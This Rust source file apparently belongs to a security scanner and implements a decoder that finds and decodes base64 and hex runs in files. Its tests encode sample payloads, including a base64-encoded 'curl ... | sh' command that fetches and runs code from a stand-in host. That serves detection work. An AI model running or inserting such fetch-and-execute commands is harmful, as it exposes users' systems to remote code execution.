//! Runs of base64 and hex in any file, with or without code nearby that decodes them.
//!
//! One scan that skips: of `RUN_BYTES_MIN` bytes it looks at the last, and only if that can be in a run at those before.
//! A run is decoded if its head is worth looking at, which the head of a key, hash, image or path is not.
//!
//! - Sees: base64 (also URL-safe, without padding, wrapped, split over literals that are joined), hex.
//! - Misses: base64 in pieces of less than 24 characters (where code says what they are, `calls` and `shell` see them).
//! - Source: RFC 4648.

use super::{Decoder, Stages, codec};
use crate::detectors::Sample;

pub(super) const DECODER: Decoder = Decoder { id: "armour", kinds: &[], literals: &[], decode };

/// Shorter runs are words: 24 characters of base64 hold 18 bytes, a short URL or half a key.
pub(super) const RUN_BYTES_MIN: usize = 24;
/// Which bytes can be in a run: those of both base64 alphabets, hexadecimal digits among them.
const IN_RUN: [bool; 256] = {
    let mut in_run = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        let b = byte as u8;
        in_run[byte] = b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_');
        byte += 1;
    }
    in_run
};

/// Bytes that are judged at once. A run holds at least two such pieces of the file, whole and side by side.
const PIECE: usize = 8;
const _: () = assert!(RUN_BYTES_MIN >= 3 * PIECE - 1);

fn decode(sample: &Sample<'_>, stages: &mut Stages<'_>) {
    let bytes = sample.bytes;
    let in_run = |byte: &u8| IN_RUN[usize::from(*byte)];
    let (pieces, _) = bytes.as_chunks::<PIECE>();
    let whole = |number: usize| pieces.get(number).is_some_and(|piece| may_be_in_run(*piece));
    // Everything before `done` was decoded or is none. The shortest run holds two whole pieces, so one of an even number.
    let (mut at, mut done) = (0, 0);
    while at < pieces.len() {
        if !whole(at) || !(whole(at + 1) || (at > 0 && whole(at - 1))) {
            at += 2;
            continue;
        }
        let middle = at * PIECE;
        let left = bytes.get(done..middle).unwrap_or_default();
        let start = middle - left.iter().rev().take_while(|byte| in_run(byte)).count();
        let right = bytes.get(middle..).unwrap_or_default();
        let end = middle + right.iter().take_while(|byte| in_run(byte)).count();
        done = end;
        if end - start >= RUN_BYTES_MIN {
            let after =
                codec::hex::run(bytes, start, end, stages).or_else(|| codec::base64::run(bytes, start, end, stages));
            done = after.unwrap_or(end);
        }
        at = (at + 2).max(done.div_ceil(PIECE).next_multiple_of(2));
    }
}

/// Whether all bytes are between `+` and `z`: every byte of a run is, and blanks, quotes and brackets are not.
fn may_be_in_run(piece: [u8; PIECE]) -> bool {
    const EACH: u64 = 0x0101_0101_0101_0101;
    let piece = u64::from_ne_bytes(piece);
    let (below, above) = (piece.wrapping_sub(EACH * b'+' as u64), piece.wrapping_add(EACH * (0x7f - b'z' as u64)));
    (piece | below | above) & (EACH * 0x80) == 0
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::decode::testing::{check, run};

    #[test]
    fn every_armour_is_undone() {
        for (packed, word, plain) in [
            ("A=aHR0cDovLzE5OC41MS4xMDAuNy94", "base64@2", "http://198.51.100.7/x"),
            ("c=\"aHR0cDovLzE5OC41MS4xMDAu\" +\n   \"Ny94LWFuZC1tb3Jl\"", "base64@3", "http://198.51.100.7/x-and-more"),
            (
                "#\nY3VybCBodHRwOi8vMTk4LjUxLjEwMC43\nL3ggfCBzaCAjIGFuZCBtb3JlIG9mIGl0\nISEK",
                "base64@2",
                "curl http://198.51.100.7/x | sh # and more of it!!\n",
            ),
            ("Buffer.from('aHR0cDovLzE5OC41MS4xMDAuNy94','base64')", "base64@13", "http://198.51.100.7/x"),
            ("x: Pz8_Pj4-fn5-P2ludC1vYmplY3Q_", "base64@3", "???>>>~~~?int-object?"),
            ("h='687474703a2f2f3139382e35312e3130302e372f78'", "hex@3", "http://198.51.100.7/x"),
        ] {
            check(&DECODER, packed, &[(word, plain)]);
        }
    }

    #[test]
    fn what_only_looks_like_armour_is_left_alone() {
        for text in [
            "/usr/share/doc/python3/examples/something/quite/long/README",
            "a3f5c1d2e4b697887766554433221100ffeeddccbbaa99887766554433221100",
            "sha512-oRnxT0nJ0rlCnSRgUXnLbJmHkhmNb4Wdp1kDgQbYvp6yG3nMHmW3qFCTr2Jd1Vg==",
            "aVeryLongIdentifierThatSomebodyWroteInCamelCaseForAReason",
            "================================================",
            "ICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAg",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
        ] {
            check(&DECODER, text, &[]);
        }
    }

    #[test]
    fn programs_and_archives_are_given_whole() {
        let made = run(&DECODER, b"p=H4sIAAAAAAAAA8tIzcnJBwCGphA2BQAAAA==");
        assert_eq!(made[0].0, "base64@2");
        assert_eq!(made[0].1.len(), 25);
        let made = run(&DECODER, b"p=1f8b0800000000000203cb48cdc9c9070086a6103605000000");
        assert_eq!((made[0].0.as_str(), made[0].1.len()), ("hex@2", 25));
    }

    /// Every line may begin with any character of the alphabet, and a mark at its start is no operator.
    #[test]
    fn wrapped_lines_are_read_to_the_end_whatever_they_begin_with() {
        use ::base64::{Engine as _, engine::general_purpose::STANDARD};
        let mut plain = b"\x1f\x8b\x08\0".to_vec();
        plain.extend((0..20_000_u32).flat_map(|n| n.wrapping_mul(0x9e37_79b9).to_be_bytes()));
        let packed = STANDARD.encode(&plain);
        let lines: Vec<&str> = packed.as_bytes().chunks(76).filter_map(|line| str::from_utf8(line).ok()).collect();
        assert!(lines.iter().any(|line| line.starts_with('+')), "one line begins with a plus");
        let made = run(&DECODER, format!("#!/bin/sh\nbase64 -d <<'EOT' > x\n{}\nEOT\n", lines.join("\n")).as_bytes());
        assert_eq!(made.iter().map(|(_, bytes)| bytes.len()).collect::<Vec<_>>(), [plain.len()]);
    }

    proptest! {
        /// Wherever it stands and whatever is around it, a piece is found.
        #[test]
        fn a_piece_is_found_anywhere(before in "[ -~\n]{0,60}", after in "[ -~\n]{0,60}", text in "[a-z]{18,40}") {
            use ::base64::{Engine as _, engine::general_purpose::STANDARD};
            let packed = format!("{before}\n = '{}' \n{after}", STANDARD.encode(format!("= {text} {text}")));
            let made = run(&DECODER, packed.as_bytes());
            prop_assert!(made.iter().any(|(_, bytes)| String::from_utf8_lossy(bytes).contains(&text)), "{packed} {made:?}");
        }
    }
}
